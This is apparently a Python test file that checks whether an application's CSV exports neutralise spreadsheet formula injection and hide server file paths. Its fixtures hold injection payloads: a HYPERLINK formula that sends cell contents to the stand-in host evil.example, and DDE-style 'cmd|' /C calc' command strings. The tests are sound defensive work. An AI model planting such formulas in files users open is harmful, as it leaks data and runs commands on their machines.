"""Files a user downloads are safe to open in a spreadsheet (issue 14, item 4).

A cell starting with ``= + - @``, a tab or a carriage return is a formula to
Excel, LibreOffice and Google Sheets (OWASP "CSV injection"): every CSV backplan
writes prefixes such a cell with a single quote, and names files as the
organisation knows them, never by a path on the server.
"""

from __future__ import annotations

import csv
from datetime import UTC, datetime
from pathlib import Path

import pytest

from backplan.config import Settings, get_settings
from backplan.events.csv_cells import neutralise
from backplan.services.importing import ImportRequest, import_file

NOW = datetime(2025, 6, 1, tzinfo=UTC)
HEADER = "event_id,rep,at,kind,prospect,amount,source"
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'


@pytest.fixture
def settings() -> Settings:
    return get_settings()


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("plain text", "plain text"),
        ("-500", "-500"),  # a plain number is a number, not a formula
        ("+33.5", "+33.5"),
        ("", ""),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_is_written_as_text(cell: str, written: str) -> None:
    assert neutralise(cell) == written


def test_the_rejects_csv_neutralises_formulas_and_names_the_file_without_its_server_path(
    settings: Settings, tmp_path: Path
) -> None:
    upload = tmp_path / "uploads" / "secret-server-folder" / "october.csv"
    upload.parent.mkdir(parents=True)
    quoted = '"' + EVIL.replace('"', '""') + '"'
    upload.write_text(
        "\n".join(
            [
                HEADER,
                "e1,ana,2025-01-02 09:00:00,dial,p1,,Inbound",
                f"e2,ana,{quoted},dial,@SUM(A1),,+cmd",
                "e3,ana,2025-01-02 09:00:00,teleport,p3,,-2+3",
            ]
        )
        + "\n"
    )
    summary = import_file(settings, ImportRequest(upload, "events", now=NOW))
    assert summary.rejected == 2 and summary.rejects_file
    text = Path(summary.rejects_file).read_text(encoding="utf-8")
    assert str(tmp_path) not in text and "secret-server-folder" not in text
    with open(summary.rejects_file, newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert {r["file"] for r in rows} == {"october.csv"}
    cells = [cell for r in rows for cell in r.values() if cell]
    assert not [c for c in cells if c[0] in "=+-@\t\r" and c.lstrip("+-")[:1] not in "0123456789"]
    bad_date = rows[0]
    assert bad_date["value"] == "'" + EVIL and bad_date["at"] == "'" + EVIL
    assert bad_date["prospect"] == "'@SUM(A1)" and bad_date["source"] == "'+cmd"
    assert rows[1]["source"] == "'-2+3"


def test_the_import_log_and_summary_name_files_relative_to_the_organisation(
    settings: Settings, tmp_path: Path
) -> None:
    from backplan.services.importing import recent_imports

    upload = tmp_path / "uploads" / "f00d-october.csv"
    upload.parent.mkdir(parents=True)
    upload.write_text(f"{HEADER}\ne1,ana,someday,dial,p1,,\n")
    request = ImportRequest(upload, "events", now=NOW, name="october.csv")
    summary = import_file(settings, request)
    shown = summary.to_dict(home=settings.home)
    assert shown["file"] == "october.csv"
    assert shown["rejects_file"] == f"imports/{summary.id}-october-rejects.csv"
    logged = recent_imports(settings)[0]
    assert logged["file"] == "october.csv" and logged["rejects_file"] == shown["rejects_file"]
    assert str(tmp_path) not in repr(shown) + repr(logged)
